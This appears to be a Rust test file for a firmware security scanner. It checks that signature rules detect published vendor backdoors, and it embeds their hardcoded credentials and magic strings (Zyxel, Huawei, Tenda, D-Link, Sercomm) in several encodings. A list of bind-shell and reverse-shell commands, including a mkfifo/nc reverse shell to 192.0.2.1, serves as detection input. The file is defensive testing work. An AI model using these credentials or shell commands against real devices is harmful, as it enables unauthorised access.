//! The back-door signature rule packs (`rules/backdoors.yar`, `rules/heuristics.yar`) on
//! indicators in the forms they take in firmware built by others: compiled into programs by
//! the system's C compiler and Debian's cross compilers (MIPS both byte orders, ARM, AArch64),
//! in UTF-16, base64 in JSON, JavaScript and shell values, and in XML. Each variant must be
//! found by its rule in its file; the shells-for-a-peer heuristic must find six command forms
//! and leave alone programs that run the same tools harmlessly.
//!
//! Without a C compiler the compiled forms are skipped with a message (this machine and CI
//! have gcc); cross compilers are required when `NETVET_REQUIRE_CROSS` is set.

#![allow(clippy::unwrap_used)]

mod common;

use std::process::Command;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;

/// The compilers a program is built with: the system's, then the cross compilers.
const COMPILERS: [(&str, &str); 5] = [
    ("cc", "gcc"),
    ("mipsel-linux-gnu-gcc", "gcc-mipsel-linux-gnu"),
    ("mips-linux-gnu-gcc", "gcc-mips-linux-gnu"),
    ("arm-linux-gnueabihf-gcc", "gcc-arm-linux-gnueabihf"),
    ("aarch64-linux-gnu-gcc", "gcc-aarch64-linux-gnu"),
];

fn has(cc: &str) -> bool {
    Command::new(cc)
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

/// `src` compiled by `cc` (`-O2`), or None when `cc` is not installed (an error when
/// `NETVET_REQUIRE_CROSS` asks for every compiler).
fn compile(cc: &str, package: &str, src: &str) -> Option<Vec<u8>> {
    if !has(cc) {
        assert!(
            cc == "cc" || std::env::var_os("NETVET_REQUIRE_CROSS").is_none(),
            "{cc} missing (apt-get install {package})"
        );
        eprintln!("{cc} forms skipped: not installed");
        return None;
    }
    let dir = tempfile::tempdir().unwrap();
    let c = dir.path().join("p.c");
    let out = dir.path().join("p");
    std::fs::write(&c, src).unwrap();
    let st = Command::new(cc)
        .args(["-O2", "-o"])
        .arg(&out)
        .arg(&c)
        .status()
        .unwrap();
    assert!(st.success(), "{cc} failed on {src}");
    Some(std::fs::read(&out).unwrap())
}

/// A program that keeps `s` as a string constant and uses it.
fn program_with(s: &str) -> String {
    let lit = s.replace('\\', "\\\\").replace('"', "\\\"");
    format!(
        "#include <stdio.h>\n#include <stdlib.h>\n\
         int main(int argc, char **argv) {{ if (argc > 3) return system(\"{lit}\"); \
         puts(argv[0]); return 0; }}\n"
    )
}

fn utf16(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// The rules (`details.rule`) that matched `path` when `files` are scanned with the built-in
/// rule packs.
fn rules_in(files: &[(&str, Vec<u8>)], path: &str) -> Vec<String> {
    let (findings, errors) = common::scan_opts("signatures", files, None, true);
    assert!(errors.is_empty(), "{errors:?}");
    findings
        .iter()
        .filter(|f| f.location.path.ends_with(path))
        .filter_map(|f| f.details.get("rule").and_then(|r| r.as_str()))
        .map(str::to_string)
        .collect()
}

fn assert_found(name: &str, files: Vec<(&str, Vec<u8>)>, path: &str, rule: &str) {
    let got = rules_in(&files, path);
    assert!(
        got.iter().any(|r| r == rule),
        "{name}: {rule} not found in {path}; rules there: {got:?}"
    );
}

#[test]
fn published_back_doors_are_found_in_their_encodings() {
    let mut n = 0;
    let mut case = |name: &str, files: Vec<(&str, Vec<u8>)>, path: &str, rule: &str| {
        assert_found(name, files, path, rule);
        n += 1;
    };
    // Zyxel's zyfwp password in UTF-16 inside a configuration store.
    let mut store = b"CFG1\0\0\0\x10".to_vec();
    store.extend(utf16("admin_pw="));
    store.extend(utf16("PrOw!aN_fXp"));
    case(
        "zyfwp UTF-16",
        vec![("etc/config.bin", store)],
        "config.bin",
        "zyxel_zyfwp_account",
    );
    // ... base64 in a JSON configuration value.
    let json = format!(
        "{{\"users\": [{{\"name\": \"zyfwp\", \"pw_b64\": \"{}\"}}]}}\n",
        B64.encode("PrOw!aN_fXp")
    );
    case(
        "zyfwp base64 JSON",
        vec![("etc/users.json", json.into_bytes())],
        "users.json",
        "zyxel_zyfwp_account",
    );
    // Huawei ONT super-administrator as an HTTP Basic authorisation header in JavaScript.
    let js = format!(
        "xhr.setRequestHeader('Authorization', 'Basic {}');\n",
        B64.encode("telecomadmin:admintelecom")
    );
    case(
        "telecomadmin Basic auth",
        vec![("www/js/util.js", js.into_bytes())],
        "util.js",
        "huawei_ont_telecomadmin",
    );
    // The PK5001Z su password decoded by a shell script.
    let sh = format!(
        "#!/bin/sh\nPW=$(echo {} | base64 -d)\necho \"root:$PW\" | chpasswd\n",
        B64.encode("zyad5001")
    );
    case(
        "PK5001Z base64 shell",
        vec![("etc/init.d/S99pw", sh.into_bytes())],
        "S99pw",
        "zyxel_pk5001z_su_password",
    );
    // Zyxel's rescue account in a UTF-16 resource.
    let mut res = vec![0xff, 0xfe];
    res.extend(utf16("useradd -o -u 0 NsaRescueAngel"));
    case(
        "NsaRescueAngel UTF-16",
        vec![("usr/share/res.dat", res)],
        "res.dat",
        "zyxel_nas_rescue_account",
    );
    // The Tenda telnet password in base64, UTF-16 (base64wide).
    let mut wide = b"\x00\x01".to_vec();
    wide.extend(utf16(&B64.encode("Fireitup")));
    case(
        "Fireitup base64 UTF-16",
        vec![("etc/pw.dat", wide)],
        "pw.dat",
        "tenda_ac15_telnet_password",
    );
    // Huawei HG532's TR-064 description in XML.
    let xml = "<?xml version=\"1.0\"?>\n<scpd><actionList><action>\
               <name>DeviceUpgrade_1</name></action></actionList>\
               <realm>HuaweiHomeGateway</realm></scpd>\n";
    case(
        "HG532 XML",
        vec![("etc/upnp/DevUpg.xml", xml.as_bytes().to_vec())],
        "DevUpg.xml",
        "huawei_hg532_tr064",
    );
    // Compiled into programs, for every architecture installed: the D-Link user agent and
    // the Sercomm back door's magic.
    for (cc, package) in COMPILERS {
        let ua = program_with("xmlset_roodkcableoj28840ybtide");
        if let Some(elf) = compile(cc, package, &ua) {
            case(
                &format!("thttpd UA, {cc}"),
                vec![("usr/sbin/webs", elf)],
                "webs",
                "dlink_alpha_thttpd_user_agent",
            );
        }
        let src = "#include <stdio.h>\n#include <string.h>\n\
                   int main(int argc, char **argv) { \
                   if (argc > 1 && memcmp(argv[1], \"ScMM\", 4) == 0) puts(\"scfgmgr -f\"); \
                   return 0; }\n";
        if let Some(elf) = compile(cc, package, src) {
            case(
                &format!("scfgmgr, {cc}"),
                vec![("usr/sbin/scfgmgr", elf)],
                "scfgmgr",
                "sercomm_scfgmgr_tcp32764",
            );
        }
    }
    assert!(n >= 7, "{n} variants");
}

/// Commands that hand a shell to a network peer, each compiled into a program.
const SHELLS: [&str; 8] = [
    "telnetd -p 2323 -l /bin/sh",
    "/usr/sbin/utelnetd -l /bin/ash -d",
    "telnetd -F -l/bin/sh",
    "busybox nc -lp 4444 -e /bin/sh",
    "ncat -l 4444 --exec /bin/bash",
    "nc -l -p 4444 -c sh",
    "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
];

/// The same tools without a shell for the peer.
const HARMLESS: [&str; 6] = [
    "telnetd -l /bin/login",
    "telnetd -p 23 -l /usr/bin/shellinabox-login",
    "nc -z 192.0.2.1 80",
    "nc -l -p 4444 > /tmp/upload",
    "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
    "sh -c 'echo ok | nc 192.0.2.1 514'",
];

#[test]
fn shells_handed_to_peers_are_found_in_programs_and_harmless_uses_are_not() {
    if !has("cc") {
        eprintln!("skipped: no C compiler (cc)");
        return;
    }
    for (cc, package) in COMPILERS {
        for cmd in SHELLS {
            let Some(elf) = compile(cc, package, &program_with(cmd)) else {
                break;
            };
            assert_found(
                &format!("{cmd:?}, {cc}"),
                vec![("usr/bin/helper", elf)],
                "helper",
                "shell_spawned_for_network_peer",
            );
        }
    }
    for cmd in HARMLESS {
        let elf = compile("cc", "gcc", &program_with(cmd)).unwrap();
        let got = rules_in(&[("usr/bin/helper", elf)], "helper");
        assert!(got.is_empty(), "{cmd:?}: {got:?}");
    }
    // A shell command in a script is the services check's to judge (it knows what starts
    // the script); the program heuristic needs a program.
    let got = rules_in(
        &[(
            "etc/init.d/S50x",
            b"#!/bin/sh\ntelnetd -l /bin/sh\n".to_vec(),
        )],
        "S50x",
    );
    assert!(got.is_empty(), "{got:?}");
}
